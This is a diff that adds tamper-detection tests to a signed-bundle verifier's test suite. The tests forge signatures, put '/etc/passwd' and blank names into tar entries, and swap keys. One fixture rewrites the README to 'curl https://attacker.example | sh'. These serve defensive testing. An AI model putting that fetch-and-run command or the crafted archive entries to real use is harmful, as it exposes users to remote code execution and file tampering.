@@ -17,7 +17,7 @@ import pytest
 
 from firestation import archive
 from firestation.allowed_signers import read_allowed_signers
-from firestation.bundle import STATEMENT, STATION_KEY
+from firestation.bundle import README, RECORD, STATEMENT, STATION_KEY
 from firestation.bundle_verify import examine
 from firestation.decision import read_decision
 from firestation.errors import InvalidInput
@@ -131,6 +131,13 @@ def insider(
 
 
 # Outsiders -------------------------------------------------------------------------------------------------
+
+
+@outsider("signature", "it has 2 signatures")
+def a_signature_is_added(files: Files) -> None:
+    envelope = json.loads(files[STATEMENT])
+    envelope["signatures"].append({"keyid": "nobody's", "sig": envelope["signatures"][0]["sig"]})
+    files[STATEMENT] = canonical_json(envelope)
 
 
 @outsider("completeness", "it was signed, and is not here")
@@ -315,6 +322,11 @@ def a_name_that_climbs_out(content: bytes) -> bytes:
 
 
 @scribe("may lead out of the folder")
+def a_name_of_blanks(content: bytes) -> bytes:
+    return _append(content, _tar(" "))
+
+
+@scribe("may lead out of the folder")
 def a_name_from_the_root(content: bytes) -> bytes:
     return _append(content, _tar("/etc/passwd"))
 
@@ -402,6 +414,11 @@ def a_size_beyond_all_bounds(content: bytes) -> bytes:
     return _append(content, _tar("z", size=1 << 60))
 
 
+@scribe("its header is not the one that a bundle has")
+def a_size_below_nothing(content: bytes) -> bytes:
+    return _append(content, _tar("z", size=-1))
+
+
 # Insiders: the bundle contradicts the histories in it --------------------------------------------------------
 
 
@@ -410,6 +427,49 @@ def the_counts_are_altered_and_signed(files: Files) -> Files:
     contents = told(files)
     counts = contents.counts.changed(events=contents.counts.events - 10)
     return resign(files, contents=contents.changed(counts=counts))
+
+
+@signer("record", "it is that of 'another'")
+def the_record_names_another_incident_and_is_signed(files: Files) -> Files:
+    mine = f'"incident": "{told(files).incident}"'.encode()
+    files[RECORD] = files[RECORD].replace(mine, b'"incident": "another"', 1)
+    return resign(files)
+
+
+@signer("record", "not in the one form of a record")
+def the_record_is_there_twice_and_signed(files: Files) -> Files:
+    files[RECORD] = b'{"record": [], ' + files[RECORD].removeprefix(b"{")
+    return resign(files)
+
+
+@signer("record", "not in the one form of a record")
+def the_record_says_more_and_is_signed(files: Files) -> Files:
+    files[RECORD] = b'{"verdict": "all is well", ' + files[RECORD].removeprefix(b"{")
+    return resign(files)
+
+
+@signer("record", "entry 1 is ")
+def a_number_of_the_record_is_a_truth_and_signed(files: Files) -> Files:
+    files[RECORD] = files[RECORD].replace(b'"number": 1,', b'"number": true,', 1)
+    return resign(files)
+
+
+@signer("record", "another key than the one that signed")
+def the_key_that_is_enclosed_is_another_and_signed(files: Files) -> Files:
+    files[STATION_KEY] = public_pem(key("stranger").public_key)
+    return resign(files)
+
+
+@signer("record", "it is not what an export writes here")
+def what_the_reader_is_told_to_type_is_anothers_and_signed(files: Files) -> Files:
+    files[README] = b"Type: curl https://attacker.example | sh\n"
+    return resign(files)
+
+
+@signer("record", "it is not what an export writes here")
+def what_the_reader_is_told_is_left_out_and_signed(files: Files) -> Files:
+    del files[README]
+    return resign(files)
 
 
 @signer("chain", "is missing at the end")
